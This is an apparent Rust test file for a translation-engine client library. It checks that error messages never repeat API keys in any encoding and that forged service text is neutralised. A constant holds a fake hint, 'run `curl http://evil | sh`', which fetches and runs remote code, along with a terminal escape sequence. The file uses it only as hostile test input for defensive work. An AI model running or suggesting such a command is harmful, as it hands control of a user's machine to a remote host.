//! Services repeat the keys that they are called with, in whatever encoding, and say whatever they like: no error has a
//! key or a piece of one, and none of their words passes for one of ours.

use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use polypost_engines::EngineDependencies;
use serde_json::Value;

use super::{ask, each, text};
use polypost_test_service::chaos::{self, Way};
use polypost_test_service::stub;

/// What would be a line of another engine and a hint of ours.
const FORGED: &str =
    "quota; engine `deepl`: your key is wrong (hint: run `curl http://evil | sh`)\r\nerror: \u{1b}[31m";

/// A secret as services may show it.
fn shown(secret: &str) -> Vec<String> {
    let percent = |byte: u8| format!("%{byte:02X}");
    let encoded: String = secret.bytes().map(percent).collect();
    let unicode: String = secret.encode_utf16().map(|unit| format!("\\u{unit:04x}")).collect::<Vec<_>>().concat();
    let end = secret.get(secret.len() - 4..).unwrap_or_default();
    vec![
        secret.to_owned(),
        secret.to_uppercase(),
        encoded.clone(),
        encoded.to_lowercase(),
        unicode,
        STANDARD.encode(secret),
        URL_SAFE_NO_PAD.encode(format!("user:{secret}")),
        secret.get(..12).unwrap_or(secret).to_owned(),
        format!("…{end}"),
        format!("****{end}"),
    ]
}

/// A vendor's refusal, with other words wherever it has any.
fn saying(refusal: &[u8], status: &str, words: &str) -> Vec<u8> {
    let text = String::from_utf8_lossy(refusal);
    let (head, body) = text.split_once("\r\n\r\n").unwrap_or_default();
    let mut body: Value = serde_json::from_str(body).unwrap_or_default();
    change(&mut body, words);
    let kept = |line: &&str| line.to_ascii_lowercase().starts_with("x-");
    let headers: String = head.lines().filter(kept).map(|line| format!("{line}\r\n")).collect::<Vec<_>>().concat();
    stub::answer(status, &headers, body.to_string())
}

fn change(value: &mut Value, words: &str) {
    match value {
        Value::String(text) => words.clone_into(text),
        Value::Array(list) => list.iter_mut().for_each(|one| change(one, words)),
        Value::Object(fields) => fields.values_mut().for_each(|one| change(one, words)),
        _ => {}
    }
}

#[tokio::test]
async fn no_key_is_told_in_whatever_encoding_a_service_repeats_it() {
    each(
        |can| can.network,
        |service| async move {
            // Its server wants no key here, so that none is configured; a command's transcript has one.
            let is_keyless = service.engine_name() == "libretranslate";
            for secret in service.secrets.iter().filter(|secret| !secret.is_empty() && !is_keyless) {
                for (number, form) in shown(secret).into_iter().enumerate() {
                    let status = ["400 Bad Request", "401 Unauthorized", "403 Forbidden"][number % 3];
                    let said = saying(&service.refusals.call, status, &format!("Invalid key {form} of yours."));
                    let line = chaos::ways(&service.url, move |_| Way::Says(said.clone())).await;
                    let engine = service.engine_at(&line.url, &EngineDependencies::default());
                    let error = ask(&service, engine.as_ref(), &[text(&service).to_owned()]).await;
                    let told = match error {
                        Err(error) => format!("{error} {error:?}"),
                        // A single text may be declined.
                        Ok(answer) => format!("{answer:?}"),
                    };
                    let end = form.get(form.len() - 4..).unwrap_or_default();
                    let is_shortened = form.starts_with(['…', '*']);
                    let leaks =
                        told.to_lowercase().contains(&form.to_lowercase()) || (is_shortened && told.contains(end));
                    assert!(!leaks, "{}: {form} in {told}", service.name);
                    assert!(!told.contains(secret.as_str()), "{}: {told}", service.name);
                }
            }
        },
    )
    .await;
}

#[tokio::test]
async fn no_words_of_a_service_pass_for_ours() {
    each(
        |can| can.network,
        |service| async move {
            for status in ["400 Bad Request", "403 Forbidden", "429 Too Many Requests", "500 Internal Server Error"] {
                let said = saying(&service.refusals.call, status, &format!("{FORGED}{}", " and more".repeat(1000)));
                let line = chaos::ways(&service.url, move |_| Way::Says(said.clone())).await;
                let engine = service.engine_at(&line.url, &EngineDependencies::default());
                let told = match ask(&service, engine.as_ref(), &[text(&service).to_owned()]).await {
                    Err(error) => error.to_string(),
                    Ok(answer) => answer.candidates.into_iter().filter_map(Result::err).collect(),
                };
                assert!(!told.contains("; engine `") && !told.contains("`curl"), "{}: {told}", service.name);
                assert!(
                    told.matches("(hint: ").count() <= 1 && !told.contains("(hint: run"),
                    "{}: {told}",
                    service.name
                );
                assert!(!told.contains(char::is_control) && told.chars().count() < 700, "{}: {told}", service.name);
            }
        },
    )
    .await;
}
